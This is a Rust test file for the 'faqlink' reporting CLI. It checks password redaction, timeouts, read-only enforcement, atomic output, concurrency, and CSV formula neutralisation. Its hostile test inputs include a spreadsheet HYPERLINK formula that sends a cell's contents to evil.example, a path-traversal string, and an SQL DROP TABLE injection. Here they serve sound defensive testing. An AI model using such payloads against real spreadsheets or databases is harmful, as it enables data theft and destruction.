//! Reliability and security: secrets never printed, bounded waits, faults mid-run, read-only
//! proof, consistency under a concurrent writer, overlapping cron runs, spreadsheet safety
//! and hostile input everywhere.

use std::io::Write;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use faqlink::db::{Access, Backend, Database, DatabaseUrl};
use proptest::prelude::*;

use crate::harness::{backends, faqlink, faqlink_process, pg_server, ExpertRow, FeedbackRow, TestDb};

fn output_of(a: &assert_cmd::assert::Assert) -> (String, String) {
    let o = a.get_output();
    (String::from_utf8_lossy(&o.stdout).into_owned(), String::from_utf8_lossy(&o.stderr).into_owned())
}

#[test]
fn passwords_never_appear_anywhere() {
    // Each URL carries a secret in some spelling; none may be printed raw or decoded.
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let silent = listener.local_addr().unwrap().port();
    let server = pg_server().replace("postgres://", "");
    let cases = vec![
        ("postgres://postgres:S3cr3tPw@127.0.0.1:1/db".to_string(), vec!["S3cr3tPw"]),
        (format!("postgres://postgres:S3cr3tPw@{server}/faqlink_no_such_db"), vec!["S3cr3tPw"]),
        // Rejected login (this server trusts local users, so an unknown role is what fails).
        (format!("postgres://faqlink_no_such_role:S3cr3tPw@{server}/postgres"), vec!["S3cr3tPw"]),
        (
            format!("postgres://postgres:p%40ss%2FS3cr3t@{server}/faqlink_no_such_db"),
            vec!["p@ss/S3cr3t", "p%40ss%2FS3cr3t"],
        ),
        (format!("postgres://postgres@{server}/faqlink_no_such_db?password=Qs3cretQ"), vec!["Qs3cretQ"]),
        (format!("postgres://postgres:S3cr3tPw@{server}/postgres?sslmode=bogus"), vec!["S3cr3tPw"]),
        (format!("postgres://postgres:S3cr3tPw@{server}/postgres?nonsense_param=1"), vec!["S3cr3tPw"]),
        ("postgres://postgres:S3cr3tPw@[::1/db".to_string(), vec!["S3cr3tPw"]),
        ("postgresql://u:S3cr3tPw@h:notaport/db".to_string(), vec!["S3cr3tPw"]),
        ("mysql://u:S3cr3tPw@h/db".to_string(), vec!["S3cr3tPw"]),
        ("ftp://u:S3cr3tPw@h/db?password=S3cr3tPw".to_string(), vec!["S3cr3tPw"]),
        (format!("postgres://postgres:S3cr3tPw@127.0.0.1:{silent}/db?connect_timeout=1"), vec!["S3cr3tPw"]),
    ];
    let mut tried = 0;
    for (url, secrets) in &cases {
        for args in [vec!["check"], vec!["report", "all", "--verbose"], vec!["migrate", "status", "--verbose"]] {
            // A URL faqlink cannot parse is a usage error (exit 2); a failed connection exits 1.
            let code = if faqlink::db::DatabaseUrl::parse(Some(url)).is_ok() { 1 } else { 2 };
            let a = faqlink()
                .args(["--database-url", url])
                .args(&args)
                .timeout(Duration::from_secs(20))
                .assert()
                .code(code);
            let (stdout, stderr) = output_of(&a);
            for s in secrets {
                assert!(!stdout.contains(s) && !stderr.contains(s), "{url} {args:?} printed {s}: {stderr}");
            }
            assert!(!stderr.contains("panicked"), "{stderr}");
            assert!(stderr.starts_with("faqlink: error: "), "{stderr}");
            tried += 1;
        }
        // The environment variable path too.
        let code = if faqlink::db::DatabaseUrl::parse(Some(url)).is_ok() { 1 } else { 2 };
        let a = faqlink().env("DATABASE_URL", url).arg("check").timeout(Duration::from_secs(20)).assert().code(code);
        let (_, stderr) = output_of(&a);
        assert!(secrets.iter().all(|s| !stderr.contains(s)), "{stderr}");
    }
    assert_eq!(tried, cases.len() * 3);
    drop(listener);
}

#[test]
fn a_silent_server_times_out() {
    // Accepts the TCP connection and never answers, like a black-holed host.
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let started = Instant::now();
    let a = faqlink()
        .args(["--database-url", &format!("postgres://u@127.0.0.1:{port}/db?connect_timeout=2"), "report", "totals"])
        .timeout(Duration::from_secs(30))
        .assert()
        .code(1);
    let elapsed = started.elapsed();
    assert!(elapsed < Duration::from_secs(10), "took {elapsed:?}");
    let (_, stderr) = output_of(&a);
    assert!(stderr.contains("cannot connect to postgres://u@127.0.0.1"), "{stderr}");
    assert_eq!(stderr.lines().count(), 1, "{stderr}");
}

#[test]
fn statement_timeout_bounds_a_blocked_report() {
    let Some(db) = TestDb::pg_migrated_or_skip() else { return };
    // Another session holds a lock that blocks every read of the table.
    let mut locker = hold_lock(&db, "expert_feedback");
    let started = Instant::now();
    let a = faqlink()
        .args(["--database-url", &db.url(), "report", "totals", "--statement-timeout", "1"])
        .timeout(Duration::from_secs(20))
        .assert()
        .code(1);
    assert!(started.elapsed() < Duration::from_secs(10));
    let (_, stderr) = output_of(&a);
    assert!(stderr.contains("statement timeout"), "{stderr}");
    locker.kill().unwrap();
    let _ = locker.wait();
}

#[test]
fn report_sessions_use_faqlink_settings() {
    let Some(db) = TestDb::pg_migrated_or_skip() else { return };
    let mut conn = db.open_read_only();
    conn.report_session(Some(7)).unwrap();
    // No JIT, in-memory grouping, the leader only gathers (docs/PERFORMANCE.md), the timeout asked for.
    let mut sql = conn.sql();
    sql.push(
        "SELECT CAST(current_setting('jit') || ',' || current_setting('work_mem') || ',' || \
                current_setting('parallel_leader_participation') || ',' || current_setting('statement_timeout') AS TEXT) AS s",
    );
    #[derive(diesel::QueryableByName)]
    struct Settings {
        #[diesel(sql_type = diesel::sql_types::Text)]
        s: String,
    }
    let rows: Vec<Settings> = conn.load("reading the session settings", &sql).unwrap();
    assert_eq!(rows[0].s, "off,64MB,off,7s");
}

/// A psql session holding an ACCESS EXCLUSIVE lock on `table` (kill it to release).
fn hold_lock(db: &TestDb, table: &str) -> std::process::Child {
    let mut locker = Command::new("psql")
        .args(["-X", "-q", "-d", &db.url()])
        .stdin(Stdio::piped())
        .stdout(Stdio::null())
        .spawn()
        .unwrap();
    let mut stdin = locker.stdin.take().unwrap();
    writeln!(stdin, "BEGIN; LOCK TABLE {table} IN ACCESS EXCLUSIVE MODE; SELECT pg_sleep(60);").unwrap();
    stdin.flush().unwrap();
    // Keep stdin open (the session would end at EOF) for as long as the child lives.
    locker.stdin = Some(stdin);
    wait_for_lock(db);
    locker
}

fn wait_for_lock(db: &TestDb) {
    for _ in 0..100 {
        let n = db.cli_csv(
            "SELECT COUNT(*) AS n FROM pg_locks l JOIN pg_class c ON c.oid = l.relation \
             WHERE c.relname IN ('expert_feedback', 'faq_entries') AND l.mode = 'AccessExclusiveLock' AND l.granted",
        );
        if n != "n\n0\n" {
            return;
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    panic!("the lock was never taken");
}

#[test]
fn server_going_away_mid_run_leaves_the_old_output() {
    let Some(db) = TestDb::pg_empty_or_skip() else { return };
    db.seed(2000);
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("report.json");
    std::fs::write(&out, "previous complete report\n").unwrap();
    // faq_entries is locked: the experts section runs, totals (which joins faq_entries) waits.
    let mut locker = hold_lock(&db, "faq_entries");
    let child = faqlink_process()
        .args(["--database-url", &db.url(), "report", "all", "--format", "json", "--output"])
        .arg(&out)
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    // Wait until faqlink's session is waiting on the lock, then kill that session.
    let mut killed = false;
    for _ in 0..100 {
        let r = db.cli_csv(
            "SELECT COUNT(pg_terminate_backend(pid)) AS n FROM pg_stat_activity \
             WHERE datname = current_database() AND wait_event_type = 'Lock' AND query LIKE '%faq_entries%'",
        );
        if r != "n\n0\n" {
            killed = true;
            break;
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    assert!(killed, "faqlink never waited on the lock");
    let result = child.wait_with_output().unwrap();
    locker.kill().unwrap();
    let _ = locker.wait();
    let stderr = String::from_utf8_lossy(&result.stderr);
    assert_eq!(result.status.code(), Some(1), "{stderr}");
    assert_eq!(stderr.lines().count(), 1, "{stderr}");
    assert_eq!(std::fs::read_to_string(&out).unwrap(), "previous complete report\n");
    let leftovers: Vec<_> = std::fs::read_dir(dir.path()).unwrap().map(|e| e.unwrap().file_name()).collect();
    assert_eq!(leftovers.len(), 1, "temporary files left behind: {leftovers:?}");
}

#[test]
fn read_commands_cannot_write_even_if_they_tried() {
    for backend in backends() {
        let db = TestDb::migrated(backend);
        let url = DatabaseUrl::parse(Some(&db.url())).unwrap();
        let mut conn = Database::open(&url, Access::ReadOnly).unwrap();
        let err = conn
            .read_snapshot(|db| {
                db.batch("a write", "INSERT INTO faq_entries (id, question, answer) VALUES ('x', 'q', 'a')")
            })
            .unwrap_err()
            .to_string();
        let expected = match backend {
            Backend::Postgres => "read-only transaction",
            Backend::Sqlite => "readonly",
        };
        assert!(err.contains(expected), "{backend:?}: {err}");
        assert_eq!(db.cli_csv("SELECT COUNT(*) AS n FROM faq_entries"), "n\n0\n");
    }
}

#[test]
fn reports_work_on_a_read_only_postgres_database() {
    let Some(db) = TestDb::pg_empty_or_skip() else { return };
    db.seed(300);
    db.make_read_only();
    for args in [vec!["report", "all"], vec!["check"], vec!["migrate", "status"]] {
        faqlink().args(["--database-url", &db.url()]).args(&args).assert().success();
    }
    // A write command fails cleanly there.
    faqlink().args(["--database-url", &db.url(), "seed", "--append", "--feedback", "10"]).assert().code(1);
}

/// Checks the cross-section invariants of one `report all --format json`.
fn assert_invariants(json: &str) {
    let v: serde_json::Value = serde_json::from_str(json).unwrap_or_else(|e| panic!("{e}: {json}"));
    let t = &v["totals"];
    let sum = |key: &str| v["experts"].as_array().unwrap().iter().map(|r| r[key].as_i64().unwrap()).sum::<i64>();
    assert_eq!(sum("total_feedback"), t["correct_feedback"].as_i64().unwrap(), "{t}");
    assert_eq!(sum("faqs_generated"), t["faqs_generated"].as_i64().unwrap(), "{t}");
    let orphans = v["orphans"].as_array().unwrap().len() as i64;
    assert_eq!(orphans, t["orphaned_links"].as_i64().unwrap() + t["dangling_links"].as_i64().unwrap());
    let weekly: i64 = v["weekly"].as_array().unwrap().iter().map(|r| r["feedback_total"].as_i64().unwrap()).sum();
    assert_eq!(weekly, t["feedback_total"].as_i64().unwrap(), "no NULL timestamps in this data");
    let types = ["correct_feedback", "incomplete_feedback", "incorrect_feedback"];
    assert_eq!(types.iter().map(|k| t[k].as_i64().unwrap()).sum::<i64>(), t["feedback_total"].as_i64().unwrap());
}

#[test]
fn invariants_hold_under_a_concurrent_writer() {
    for backend in backends() {
        let db = TestDb::empty(backend);
        db.seed(1500);
        let url = db.url();
        // The writer's rows go to the first expert (the writer never adds or removes one).
        let expert =
            db.cli_csv("SELECT id FROM expert_profiles ORDER BY id LIMIT 1").lines().nth(1).unwrap().to_string();
        let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
        let writer = {
            let stop = stop.clone();
            let url = url.clone();
            std::thread::spawn(move || {
                let mut conn = Database::open(&DatabaseUrl::parse(Some(&url)).unwrap(), Access::Write).unwrap();
                let mut n = 0u64;
                while !stop.load(std::sync::atomic::Ordering::SeqCst) {
                    n += 1;
                    // Insert a linked correct feedback, delete an FAQ (SET NULL fires), delete a feedback row.
                    let feedback = FeedbackRow {
                        timestamp: Some("2026-11-20T10:00:00.000000Z".into()),
                        attempted: Some(true),
                        success: Some(true),
                        faq: Some(format!("faq-w{n}")),
                        ..FeedbackRow::new(
                            format!("30000000-0000-4000-8000-{n:012}"),
                            format!("40000000-0000-4000-8000-{n:012}"),
                            &expert,
                        )
                    };
                    let sql = format!(
                        "INSERT INTO faq_entries (id, question, answer) VALUES ('faq-w{n}', 'q', 'a'); \
                         {} \
                         DELETE FROM faq_entries WHERE id IN (SELECT generated_faq_id FROM expert_feedback \
                           WHERE generated_faq_id IS NOT NULL ORDER BY id LIMIT 1); \
                         DELETE FROM expert_feedback WHERE id IN (SELECT id FROM expert_feedback \
                           WHERE feedback_type = 'incorrect' ORDER BY id LIMIT 1);",
                        feedback.sql()
                    );
                    conn.batch("writer", &format!("BEGIN; {sql} COMMIT;")).expect("the writer's transaction");
                }
                n
            })
        };
        let mut runs = 0;
        let started = Instant::now();
        while runs < 8 || started.elapsed() < Duration::from_secs(2) {
            let a = faqlink().args(["--database-url", &url, "report", "all", "--format", "json"]).assert().success();
            assert_invariants(&String::from_utf8_lossy(&a.get_output().stdout));
            runs += 1;
            if runs >= 30 {
                break;
            }
        }
        stop.store(true, std::sync::atomic::Ordering::SeqCst);
        let writes = writer.join().unwrap();
        assert!(writes > 5, "{backend:?}: the writer only committed {writes} transactions");
    }
}

#[test]
fn overlapping_runs_on_one_output_never_interleave() {
    let db = TestDb::empty(Backend::Sqlite);
    db.seed(3000);
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("all.csv");
    let expected = {
        let a = faqlink().args(["--database-url", &db.url(), "report", "all", "--format", "csv"]).assert().success();
        a.get_output().stdout.clone()
    };
    for _ in 0..3 {
        let children: Vec<_> = (0..4)
            .map(|_| {
                faqlink_process()
                    .args(["--database-url", &db.url(), "report", "all", "--format", "csv", "--output"])
                    .arg(&out)
                    .spawn()
                    .unwrap()
            })
            .collect();
        for mut c in children {
            assert!(c.wait().unwrap().success());
        }
        assert_eq!(std::fs::read(&out).unwrap(), expected, "the output is not one complete run");
    }
    assert_eq!(std::fs::read_dir(dir.path()).unwrap().count(), 1, "temporary files left behind");
}

const HOSTILE: [&str; 14] = [
    "=1+1",
    "+39 02 1234",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTAB",
    "\rCR",
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
    "quote \" inside",
    "comma, inside",
    "line\nbreak",
    "Società Cooperativa à è é ì ò ù",
    "emoji 🧾📈",
    "semi;colon",
    "plain",
];

#[test]
fn hostile_cells_round_trip_through_csv_neutralised() {
    let db = TestDb::migrated(Backend::Sqlite);
    let mut sql = String::new();
    for (i, reg) in HOSTILE.iter().enumerate() {
        let n = i + 1;
        let expert = ExpertRow { registration: Some(reg.to_string()), ..ExpertRow::numbered(n) };
        sql.push_str(&expert.sql());
        sql.push_str(
            &FeedbackRow {
                timestamp: Some(format!("2026-11-{:02}T10:00:00.000000Z", 10 + i)),
                success: Some(true),
                ..FeedbackRow::numbered(n, &expert.id)
            }
            .sql(),
        );
    }
    db.exec(&sql);
    let neutral =
        |s: &str| if s.starts_with(['=', '+', '-', '@', '\t', '\r']) { format!("'{s}") } else { s.to_string() };
    let mut expected: Vec<String> = HOSTILE.iter().map(|s| neutral(s)).collect();
    expected.sort_by(|a, b| a.as_bytes().cmp(b.as_bytes()));
    for (flags, delimiter, bom) in [(vec![], b',', false), (vec!["--bom"], b',', true), (vec!["--excel"], b';', true)] {
        let a = faqlink()
            .args(["--database-url", &db.url(), "report", "experts", "--format", "csv"])
            .args(&flags)
            .assert()
            .success();
        let bytes = a.get_output().stdout.clone();
        let boms = bytes.windows(3).filter(|w| *w == [0xEF, 0xBB, 0xBF]).count();
        assert_eq!((boms, bytes.starts_with(&[0xEF, 0xBB, 0xBF])), (usize::from(bom), bom), "{flags:?}");
        let body = if bom { &bytes[3..] } else { &bytes[..] };
        // Rust's csv crate.
        let mut r = csv::ReaderBuilder::new().delimiter(delimiter).from_reader(body);
        let mut regs: Vec<String> = r.records().map(|r| r.unwrap()[1].to_string()).collect();
        regs.sort_by(|a, b| a.as_bytes().cmp(b.as_bytes()));
        assert_eq!(regs, expected, "{flags:?}");
        // Python's csv module reads the same cells.
        let mut py = Command::new("python3")
            .args([
                "-c",
                "import csv,sys,json; d=sys.argv[1]; rows=list(csv.reader(sys.stdin.buffer.read().decode('utf-8-sig').splitlines(True), delimiter=d)); print(json.dumps(sorted([r[1] for r in rows[1:]])))",
                &(delimiter as char).to_string(),
            ])
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .spawn()
            .expect("python3");
        py.stdin.take().unwrap().write_all(&bytes).unwrap();
        let out = py.wait_with_output().unwrap();
        assert!(out.status.success());
        let mut from_python: Vec<String> = serde_json::from_slice(&out.stdout).unwrap();
        from_python.sort_by(|a, b| a.as_bytes().cmp(b.as_bytes()));
        assert_eq!(from_python, expected, "python {flags:?}");
    }
    // Negative numbers (week-over-week changes) are numbers, not neutralised.
    let a = faqlink()
        .args([
            "--database-url",
            &db.url(),
            "report",
            "weekly",
            "--format",
            "csv",
            "--since",
            "2026-11-09",
            "--until",
            "2026-11-30",
        ])
        .assert()
        .success();
    let text = String::from_utf8_lossy(&a.get_output().stdout).into_owned();
    assert!(text.contains(",-"), "expected a negative change: {text}");
    assert!(!text.contains("'-"), "a number was neutralised: {text}");
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 400, .. ProptestConfig::default() })]

    #[test]
    fn parsers_never_panic(s in "\\PC{0,40}", d in "[0-9W:T+Z./-]{0,30}") {
        let tz = chrono_tz::Europe::Rome;
        for v in [&s, &d] {
            let _ = faqlink::config::parse_when("--since", v, tz);
            let _ = faqlink::config::parse_iso_week(v);
            let _ = faqlink::config::parse_tz(v);
            let _ = DatabaseUrl::parse(Some(v));
            let _ = DatabaseUrl::parse(Some(&format!("postgres://u:pw@{v}")));
        }
        if let Ok(w) = faqlink::config::parse_iso_week(&d) {
            prop_assert_eq!(faqlink::reports::period::iso_week_label(w), d.trim().to_string());
        }
    }
}

#[test]
fn hostile_option_values_get_a_clean_error() {
    let db = TestDb::migrated(Backend::Sqlite);
    let values = [
        "",
        " ",
        "-1",
        "0",
        "99999999999999999999",
        "2026-13-01",
        "2026-W99",
        "Mars/Olympus",
        "../../etc/passwd",
        "\u{0}",
        "🧾",
        "%n%s",
        "'; DROP TABLE x; --",
    ];
    let options = ["--since", "--until", "--week", "--tz", "--delimiter", "--statement-timeout", "--format"];
    let mut tried = 0;
    for opt in options {
        for v in values {
            if v.contains('\u{0}') {
                continue; // not representable as an argument
            }
            let a = faqlink().args(["--database-url", &db.url(), "report", "totals", opt, v]).assert();
            let out = a.get_output();
            let code = out.status.code().unwrap();
            let stderr = String::from_utf8_lossy(&out.stderr);
            assert!(!stderr.contains("panicked"), "{opt} {v:?}: {stderr}");
            if code != 0 {
                assert!(code == 2 || code == 1, "{opt} {v:?}: exit {code}");
                assert!(out.stdout.is_empty(), "{opt} {v:?} printed a report");
            }
            tried += 1;
        }
    }
    assert!(tried > 80);
}

#[test]
fn a_full_disk_fails_cleanly_and_leaves_no_temporary_file() {
    let db = TestDb::empty(Backend::Sqlite);
    faqlink()
        .args([
            "--database-url",
            &db.url(),
            "seed",
            "--feedback",
            "3000",
            "--deleted-share",
            "1",
            "--end",
            "2026-11-23",
        ])
        .assert()
        .success();
    // /dev/full: every write fails with ENOSPC.
    let a = faqlink()
        .args(["--database-url", &db.url(), "report", "orphans", "--format", "csv", "--output", "/dev/full"])
        .assert()
        .code(1);
    let (_, stderr) = output_of(&a);
    assert!(stderr.contains("/dev/full") && stderr.lines().count() == 1, "{stderr}");
    // A tiny file system that fills up half-way through the report.
    let dir = tempfile::tempdir().unwrap();
    let mounted = Command::new("mount")
        .args(["-t", "tmpfs", "-o", "size=64k", "tmpfs"])
        .arg(dir.path())
        .status()
        .is_ok_and(|s| s.success());
    if !mounted {
        eprintln!("cannot mount a tmpfs here (needs root): only the /dev/full half of this test ran");
        return;
    }
    let old = dir.path().join("orphans.csv");
    std::fs::write(&old, "old complete report\n").unwrap();
    let a = faqlink()
        .args(["--database-url", &db.url(), "report", "orphans", "--format", "csv", "--output"])
        .arg(&old)
        .assert();
    let code = a.get_output().status.code();
    let stderr = String::from_utf8_lossy(&a.get_output().stderr).into_owned();
    let content = std::fs::read_to_string(&old).unwrap();
    let entries = std::fs::read_dir(dir.path()).unwrap().count();
    let _ = Command::new("umount").arg(dir.path()).status();
    assert_eq!(code, Some(1), "{stderr}");
    assert!(stderr.contains("No space left on device") || stderr.contains("storage full"), "{stderr}");
    assert_eq!(content, "old complete report\n");
    assert_eq!(entries, 1, "a temporary file was left on the full file system");
}
